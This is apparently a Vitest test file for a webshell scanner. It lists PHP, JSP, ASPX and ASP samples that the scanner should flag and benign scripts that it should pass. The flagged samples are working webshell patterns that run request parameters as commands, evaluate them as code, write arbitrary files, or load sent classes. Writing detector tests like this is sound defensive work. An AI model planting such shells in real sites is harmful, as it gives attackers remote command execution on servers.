import { describe, expect, it } from 'vitest'
import { ask, evaluate, execute, get, j, php, post, sh } from './testing/ask.ts'

const suspected: readonly (readonly [string, string])[] = [
  ['PHP: a command in a variable', `${php}\n$cmd = ${get}['cmd'];\necho "<pre>";\n${j('sys', 'tem')}($cmd);\n?>`],
  [
    'PHP: a decoded command in a variable',
    `${php}if(isset(${post}['c'])){ $c = base64_decode(${post}['c']); echo ${j('shell', '_exec')}($c." 2>&1"); }`,
  ],
  ['PHP: with the short mark', `<? @${evaluate}(${post}['x']);?>`],
  ['PHP: by the name of a function', `${php}${j('array', '_map')}("${j('ass', 'ert')}", (array)${post}['x']);`],
  ['PHP: by a call of a call', `${php}call_user_func("${j('ass', 'ert')}", ${post}['x']);`],
  ['PHP: by a name in pieces', `${php}$a='as'.'sert'; @$a(${post}['x']); ?>`],
  [
    'PHP: writes what is sent into any file',
    `${php}${j('file_put', '_contents')}(${get}['f'], base64_decode(${post}['d']));`,
  ],
  ['PHP: by an expression that is run', `${php}preg_replace("/x/e", ${post}['a'], "x");`],
  ['PHP: with a comment in between', `${php}${evaluate}/**/(${post}['x']);`],
  [
    'JSP: a command in a variable',
    `<%@ page import="java.io.*" %><% String cmd = request.getParameter("cmd"); if (cmd != null) { Process p = Runtime.${j('get', 'Runtime')}().${execute}(new String[]{"${sh}","-c",cmd}); } %>`,
  ],
  [
    'JSP: loads a class that is sent',
    `<%@page import="java.util.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.${j('define', 'Class')}(b,0,b.length);}}%><% Cipher c=Cipher.getInstance("AES"); new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance();%>`,
  ],
  [
    'ASPX: starts a shell',
    `<%@ Page Language="C#" %><script runat="server">void go(){ ${j('Process', 'StartInfo')} psi = new ${j('Process', 'StartInfo')}(); psi.FileName = "${j('cmd', '.exe')}"; psi.Arguments = "/c " + Request["c"]; Process.Start(psi); }</script>`,
  ],
  [
    'ASP: starts a shell',
    `<% Set s = Server.CreateObject("${j('WScript', '.Shell')}")\nSet e = s.${j('Ex', 'ec')}("cmd /c " & Request("c"))\nResponse.Write e.StdOut.ReadAll %>`,
  ],
]
const ordinary: readonly (readonly [string, string])[] = [
  ['PHP that asks a database', `${php}$sql = ${post}['sql'];\n$db->${execute}($sql);\n`],
  ['PHP that quotes a name', `${php}$file = escapeshellarg(${get}['f']); ${j('sys', 'tem')}("ls " . $file);`],
  [
    'PHP that cleans a request',
    `${php}function a($x){return $x;} $clean = $this->filter(${post}['name']); $value = $callback(${get}['x']);\n${'// text\n'.repeat(300)}`,
  ],
  [
    'PHP that chooses by a request',
    `${php}$action = ${get}['action'];\nswitch($action){case 'a': do_a(); break;}\n${'echo "hello";\n'.repeat(200)}\n${j('sys', 'tem')}("ls");`,
  ],
  ['PHP that fetches an address', `${php}$ch = curl_init(${get}['u']); $url = ${get}['u']; curl_${execute}($ch);`],
  [
    'JSP that shows a name',
    `<%@ page contentType="text/html" %><% String name = request.getParameter("name"); out.println(escape(name)); %>`,
  ],
  [
    'ASPX that shows a text',
    `<%@ Page Language="C#" %><% string q = Request["q"]; Response.Write(Server.HtmlEncode(q)); %>`,
  ],
]

describe('webshells', () => {
  it.each(suspected)('suspected: %s', (_, content) => expect(ask(content)).toEqual(['Script.Webshell']))
  it.each(ordinary)('ordinary: %s', (_, content) => expect(ask(content)).toEqual([]))
})
